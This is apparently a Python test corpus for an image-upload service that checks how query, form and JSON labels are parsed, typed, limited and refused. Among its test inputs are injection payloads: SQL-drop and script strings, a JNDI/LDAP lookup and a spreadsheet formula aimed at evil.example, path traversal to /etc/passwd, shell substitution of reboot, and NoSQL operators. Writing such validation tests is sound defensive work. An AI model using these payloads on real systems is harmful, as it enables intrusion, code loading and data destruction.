"""Which labels are taken, as which values, and which are refused by name, type, place or number?"""

import json
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote, quote_plus

from tests.corpus import ACCEPTED, PHOTO, TYPES, Case
from tests.corpus.encodings import CODE, FORM, JSON

TYPE = "label-validation/type"
NAME = "label-validation/name"
RESERVED = "label-validation/reserved"
TWICE = "receive/repeated"
DIFFERENT = "receive/contradiction"


def cases() -> Iterator[Case]:
    yield from number_cases()
    yield from name_cases()
    yield from place_cases()
    yield from size_cases()
    yield from json_cases()
    yield from text_cases()


def query(name: str, answer: str, text: str, labels: Any = None, path: str = "/upload") -> Case:
    return Case(name, answer, PHOTO, target=f"{path}?{text}", data=PHOTO, labels=labels)


def told(name: str, answer: str, sent: Any, labels: Any = None) -> Case:
    """Send labels in JSON."""
    body = json.dumps({"image": CODE, "labels": sent}).encode()
    return Case(name, answer, body, JSON, data=PHOTO, labels=labels)


def number_cases() -> Iterator[Case]:
    """Spell numbers in every way that some language takes for one."""
    whole = {"3": 3, "-3": -3, "0": 0, "-0": 0, "007": 7, str(2**63 - 1): 2**63 - 1}
    real: dict[str, float] = {
        **{text: float(text) for text in whole},
        "3.5": 3.5,
        "-.5": -0.5,
        "5.": 5.0,
        "1e3": 1000.0,
        "1E-3": 0.001,
        "3.0": 3.0,
    }
    odd = (
        "",
        " ",
        " 3 ",
        "3 ",
        "+3",
        "++3",
        "- 3",
        "1_000",
        "1,000",
        "1.000,5",
        "٣",
        "３",
        "३",
        "²",
        "½",
        "Ⅷ",
        "0x1f",
        "0b11",
        "0o17",
        "1e999",
        "-1e999",
        "NaN",
        "nan",
        "Infinity",
        "inf",
        "-Infinity",
        "true",
        "True",
        "null",
        "None",
        "three",
        "3px",
        "3;4",
        "3\n",
        "\t3",
        "3\u200b",
        "\ufeff3",
        "−3",
        "1e",
        "e3",
        ".",
        "-",
        "--3",
        "1..2",
        "1/2",
        "1L",
        "1n",
        "3j",
        "$3",
        "[3]",
        '"3"',
        "{}",
        "9" * 500,
    )
    for text, number in whole.items():
        yield query(f"{text} for a whole number", ACCEPTED, f"x={quote_plus(text)}", {"x": number})
    for text, fraction in real.items():
        yield query(f"{text} for a number", ACCEPTED, f"f={quote_plus(text)}", {"f": fraction})
    for text in (*odd, "3.0", "1e3", "3.5"):
        said = ascii(text if len(text) < 20 else text[:20] + "...")
        yield query(f"{said} for a whole number", TYPE, f"x={quote_plus(text)}")
    for text in odd:
        if text != "9" * 500:
            yield query(f"{text!a} for a number", TYPE, f"f={quote_plus(text)}")
    yield query("500 digits for a number", TYPE, "f=" + "9" * 500)
    for number in (2**63, -(2**63) - 1, 10**30):
        yield query(f"{number} for a whole number", "label-validation/maximum", f"x={number}")
    for text, value in {"true": True, "false": False, "True": True, "False": False}.items():
        yield query(f"{text} for yes or no", ACCEPTED, f"ok={text}", {"ok": value})
    for text in ("1", "0", "yes", "no", "on", "off", "TRUE", "t", "", "null"):
        yield query(f"{text!r} for yes or no", TYPE, f"ok={text}")
    for text in ("2020", "true", "null", "NaN", "1e3", "", " 3 ", "{}"):
        yield query(
            f"{text!r} for text stays text", ACCEPTED, f"mood={quote_plus(text)}", {"mood": text}
        )
    guessed: dict[str, Any] = {
        "3": 3,
        "3.5": 3.5,
        "true": True,
        "NaN": "NaN",
        "Infinity": "Infinity",
        "1_000": "1_000",
        "٣": "٣",
        "0x1f": "0x1f",
        " 3 ": " 3 ",
        "a": "a",
    }
    for text, guess in guessed.items():
        yield query(
            f"{text!r} undeclared, on /put",
            ACCEPTED,
            f"free={quote_plus(text)}",
            {"free": guess},
            "/put",
        )
        yield query(
            f"{text!r} undeclared, on /upload", ACCEPTED, f"free={quote_plus(text)}", {"free": text}
        )


def name_cases() -> Iterator[Case]:
    for name in ("uid", "_id", "_librarian", "_", "__proto__", "_librarian.received_at"):
        yield query(f"a label called {name}", RESERVED, f"{name}=1")
    for name in ("uid", "_id", "_librarian"):
        yield told(f"a label called {name} in JSON", RESERVED, {name: {"received_at": "2020"}})
    for name in ("$where", "$set", "$ne", "$", "box.$gt", "a..b", ".a", "a.", ".", "..", ""):
        yield query(f"a label called {name!r}", NAME, f"{quote(name)}=1")
    for name in ("$where", "$set", "$expr", "${HOME}", "a.b", "", "a.$b"):
        yield told(f"a label called {name!r} in JSON", NAME, {name: 1})
    yield told("an operator within a label", NAME, {"box": {"$gt": ""}})
    yield told("an operator within a list", NAME, {"tags": [{"$where": "sleep(1000)"}]})
    yield told("a dotted name within a label", NAME, {"box": {"a.b": 1}})
    yield told(
        "a name of a proto within", ACCEPTED, {"box": {"__proto__": 1}}, {"box": {"__proto__": 1}}
    )
    yield told("a name of 500,000 letters", "label-validation/length", {"n" * 500_000: 1})
    for name in (
        "constructor",
        "class",
        "SELECT",
        "'; DROP TABLE contributions; --",
        "<script>",
        "größe",
        "😀",
        "a b",
        "a/b",
        "~",
        "a~1b",
        "%s",
        "{0}",
    ):
        yield told(f"a label called {name!r} in JSON", ACCEPTED, {name: "1"}, {name: "1"})
    yield query(
        "labels called as our own parameters",
        ACCEPTED,
        "key=1&legacy=1&contributor=2",
        {"key": "1", "legacy": "1", "contributor": "2"},
    )


def place_cases() -> Iterator[Case]:
    """Say a label in several places, alike and not."""
    image = f"image={quote_plus(CODE)}"

    def form(name: str, answer: str, text: str, target: str, labels: Any = None) -> Case:
        return Case(name, answer, text.encode(), FORM, target, data=PHOTO, labels=labels)

    yield query("a label twice", TWICE, "mood=a&mood=b")
    yield query("a label twice, alike", TWICE, "mood=a&mood=a")
    yield query("a number twice", TWICE, "x=1&x=1")
    yield query("a list by repetition", ACCEPTED, "tags=a&tags=b", {"tags": ["a", "b"]})
    yield query("a list of one", ACCEPTED, "tags=a", {"tags": ["a"]})
    yield query("a list as JSON", ACCEPTED, "tags=%5B1%2C%22a%22%5D", {"tags": [1, "a"]})
    yield query("a member and its box", DIFFERENT, "box.x=1&box=%7B%22x%22%3A2%7D")
    yield query(
        "a member and its box, alike", ACCEPTED, "box.x=1&box=%7B%22x%22%3A1%7D", {"box": {"x": 1}}
    )
    yield query("a member of what is text", DIFFERENT, "mood=a&mood.x=1")
    yield query("a member whose box is text", TYPE, "box=a")
    yield query("a label whose name is written in two ways", TWICE, "mood=a&%6dood=b")
    yield form(
        "a label in address and form, alike", ACCEPTED, image + "&x=1", "/upload?x=1", {"x": 1}
    )
    yield form("a label in address and form", DIFFERENT, image + "&x=1", "/upload?x=2")
    yield form("a label in form and labels", DIFFERENT, image + '&x=1&labels={"x":2}', "/upload")
    yield form(
        "a label in form and labels, alike",
        ACCEPTED,
        image + '&x=1&labels={"x":1.0}',
        "/upload",
        {"x": 1},
    )
    yield form("labels twice", DIFFERENT, image + '&labels={"x":1}&labels={"x":2}', "/upload")
    yield form(
        "a box put together from three places",
        ACCEPTED,
        image + '&box.y=b&labels={"box":{"z":1}}',
        "/upload?box.x=1",
        {"box": {"z": 1, "x": 1, "y": "b"}},
    )
    yield form(
        "a number and text of the same digits",
        DIFFERENT,
        image + '&labels={"free":1}',
        "/upload?free=1",
    )
    yield form("yes and one", DIFFERENT, image + '&labels={"free":true}', "/upload?free=1")
    yield query(
        "labels in the address", ACCEPTED, "labels=%7B%22x%22%3A1%7D", {"labels": '{"x":1}'}
    )
    yield query("an address of two question marks", ACCEPTED, "mood=a?b", {"mood": "a?b"})
    yield query("an address that is not UTF-8", "receive/utf-8", "mood=%FF")
    yield query("an address of 2,000 labels", "receive/count", "a=1&" * 2_000)
    yield query("an address of separators", ACCEPTED, "&&&", {})
    yield query("a sign of equality alone", NAME, "=")
    yield query("a label without a value", ACCEPTED, "mood", {"mood": ""})


def size_cases() -> Iterator[Case]:
    yield told("201 labels", "label-validation/count", {f"n{i}": i for i in range(201)})
    yield told("200 labels", ACCEPTED, {f"n{i}": i for i in range(200)})
    yield told(
        "200 labels within labels",
        "label-validation/count",
        {"box": {f"n{i}": i for i in range(201)}},
    )
    yield told("20,000 labels", "label-validation/count", {f"n{i}": i for i in range(20_000)})
    yield told("a list of 5,000", ACCEPTED, {"tags": [0] * 5_000})
    yield told("labels above a mebibyte", "label-validation/bytes", {"tags": ["x" * 999] * 1_100})
    yield told("labels 33 deep", "label-validation/depth", nested(33))
    yield told("labels 32 deep", ACCEPTED, nested(31))
    yield told("a list 60 deep", "label-validation/depth", {"tags": nested_list(60)})
    yield query("a name of 40 dots", "receive/depth", ".".join("a" * 40) + "=1")
    yield query("a name of 3,000 dots", "receive/depth", "." * 3_000 + "=1")


def nested(depth: int) -> Any:
    value: Any = 1
    for _ in range(depth):
        value = {"a": value}
    return value


def nested_list(depth: int) -> Any:
    value: Any = 1
    for _ in range(depth):
        value = [value]
    return value


def json_cases() -> Iterator[Case]:
    """Say values of every JSON type where another is declared."""
    values: dict[str, tuple[Any, tuple[str, ...]]] = {
        "text": ("a", ("str",)),
        "a number in quotes": ("3", ("str",)),
        "a whole number": (3, ("int", "float")),
        "a whole number written as a fraction": (3.0, ("int", "float")),
        "a fraction": (3.5, ("float",)),
        "true": (True, ("bool",)),
        "null": (None, ()),
        "a list": (["a"], ("list",)),
        "an object": ({"a": 1}, ("dict",)),
    }
    for name, declared in TYPES.items():
        if "." in name:
            continue
        for word, (sent, kinds) in values.items():
            value = sent
            fits = declared.rstrip("?") in kinds
            if fits and declared in ("int?", "float?"):
                value = {"int?": int, "float?": float}[declared](value)
            yield told(
                f"{word} in JSON for {declared}",
                ACCEPTED if fits else TYPE,
                {name: sent},
                {name: value} if fits else None,
            )
    yield told("a member of another type", TYPE, {"box": {"x": "1"}})
    yield told("a number beyond 64 bits in JSON", "label-validation/maximum", {"free": 2**63})
    yield told(
        "a number beyond 64 bits within", "label-validation/maximum", {"box": {"y": [-(2**64)]}}
    )
    yield told("a large number for a float", ACCEPTED, {"f": 1e300}, {"f": 1e300})
    yield told(
        "a whole number of 400 digits for a float", "label-validation/maximum", {"f": 10**399}
    )


def text_cases() -> Iterator[Case]:
    """Say things in text that some program behind takes for more than text."""
    for text in (
        '=HYPERLINK("http://evil.example")',
        "+1+1",
        "@SUM(A1)",
        "-2+3",
        "<script>alert(1)</script>",
        "'; DROP TABLE contributions; --",
        "{{7*7}}",
        "${jndi:ldap://evil.example}",
        "%00",
        "%n%n%s",
        "../../etc/passwd",
        "C:\\Windows",
        "file:///etc/passwd",
        "$(reboot)",
        "`reboot`",
        "a" * 5_000,
        "Ω≈ç√∫",
        "田中さん",
        "שלום",
        "👩‍👩‍👧",
        "é́́́",
        "ﷺ",
    ):
        said = ascii(text[:30])
        yield query(f"{said} for text", ACCEPTED, f"mood={quote(text)}", {"mood": text})
